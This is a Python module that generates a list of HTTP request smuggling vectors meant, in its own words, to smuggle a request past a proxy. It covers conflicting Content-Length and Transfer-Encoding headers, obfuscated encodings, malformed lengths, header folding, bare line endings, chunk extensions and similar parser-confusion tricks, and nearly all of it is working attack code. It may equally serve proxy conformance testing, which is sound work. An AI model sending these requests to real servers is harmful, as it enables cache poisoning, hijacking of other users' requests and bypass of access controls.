"""What is sent to smuggle a request past a proxy."""

METHODS = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'POST', 'PUT', 'PROPFIND', 'TRACE', 'FOO']


def vectors():
    """(name, function of path and payload to (head, body)). The body is sent after a pause, or padded."""
    made = []

    def add(name, method, fields, body=lambda payload: payload, version='1.1'):
        def build(path, payload):
            content = body(payload)
            lines = fields.replace('{n}', str(len(content)))
            return (f'{method} {path} HTTP/{version}\r\nHost: localhost\r\n{lines}\r\n', content)

        made.append((name, build))

    def chunked(payload):
        return f'{len(payload):x}\r\n{payload}\r\n0\r\n\r\n'

    for method in METHODS:
        add(f'{method}, length', method, 'Content-Length: {n}\r\n')
        add(f'{method}, chunked', method, 'Transfer-Encoding: chunked\r\n', chunked)
    add('CL.CL, 0 first', 'GET', 'Content-Length: 0\r\nContent-Length: {n}\r\n')
    add('CL.CL, 0 last', 'GET', 'Content-Length: {n}\r\nContent-Length: 0\r\n')
    add('CL.TE', 'POST', 'Content-Length: {n}\r\nTransfer-Encoding: chunked\r\n', lambda p: '0\r\n\r\n' + p)
    add('TE.CL', 'POST', 'Transfer-Encoding: chunked\r\nContent-Length: 4\r\n', chunked)
    add('TE.0', 'OPTIONS', 'Transfer-Encoding: chunked\r\n', chunked)
    for coding in ['identity', 'gzip, chunked', 'chunked, identity', 'xchunked', '\x0bchunked', 'chunked\r\n x']:
        add(f'TE {coding!r}', 'POST', f'Transfer-Encoding: {coding}\r\n', chunked)
        add(f'TE {coding!r}, length', 'POST', f'Transfer-Encoding: {coding}\r\nContent-Length: {{n}}\r\n', chunked)
    for length in ['%300', '%30', '0x30', '+5', '-0', '0,{n}', '{n} 0', '{n};x', '0\r\n {n}']:
        add(f'length {length!r}', 'POST', f'Content-Length: {length}\r\n')
    add('obs-fold', 'POST', 'X-A: b\r\n Content-Length: {n}\r\n')
    add('blank before the colon', 'POST', 'Content-Length : {n}\r\n')
    add('bare LF', 'POST', 'X-A: b\nContent-Length: {n}\r\n')
    add('bare LF after it', 'POST', 'Content-Length: {n}\nX-A: b\r\n')
    add('bare CR', 'POST', 'X-A: b\rContent-Length: {n}\r\n')
    add('chunk extension', 'POST', 'Transfer-Encoding: chunked\r\n', lambda p: '0;a=b\r\n\r\n' + p)
    add('chunk extension, LF', 'POST', 'Transfer-Encoding: chunked\r\n', lambda p: f'2;\n{len(p):x}\r\nab\r\n0\r\n\r\n' + p)
    add('trailer', 'POST', 'Transfer-Encoding: chunked\r\n', lambda p: '0\r\nX: y\r\n\r\n' + p)
    add('chunk 0x', 'POST', 'Transfer-Encoding: chunked\r\n', lambda p: f'0x{len(p):x}\r\n{p}\r\n0\r\n\r\n')
    add('Expect', 'GET', 'Expect: 100-continue\r\nContent-Length: {n}\r\n')
    add('Expect, twice', 'POST', 'Expect: 100-continue\r\nExpect: x\r\nContent-Length: {n}\r\n')
    add('pipelined', 'GET', '')
    add('HTTP/1.0 keep-alive', 'GET', 'Connection: Keep-Alive\r\nContent-Length: {n}\r\n', version='1.0')
    add('HTTP/1.0 chunked', 'POST', 'Connection: Keep-Alive\r\nTransfer-Encoding: chunked\r\n', chunked, version='1.0')
    add('a line of 8,190 bytes', 'POST', 'X-A: ' + 'a' * 8186 + '\r\nContent-Length: {n}\r\n')
    add('a control character', 'POST', 'X-A: a\x01b\r\nContent-Length: {n}\r\n')
    add('101 fields', 'POST', ''.join(f'X-{i}: a\r\n' for i in range(101)) + 'Content-Length: {n}\r\n')
    add('a range that is none', 'GET', 'Range: x\r\nContent-Length: {n}\r\n')
    add('a body over the limit', 'POST', 'Content-Length: {n}\r\n', lambda p: 'x' * (1 << 20) + p)
    add('compressed', 'POST', 'Content-Encoding: gzip\r\nContent-Length: {n}\r\n')
    return made
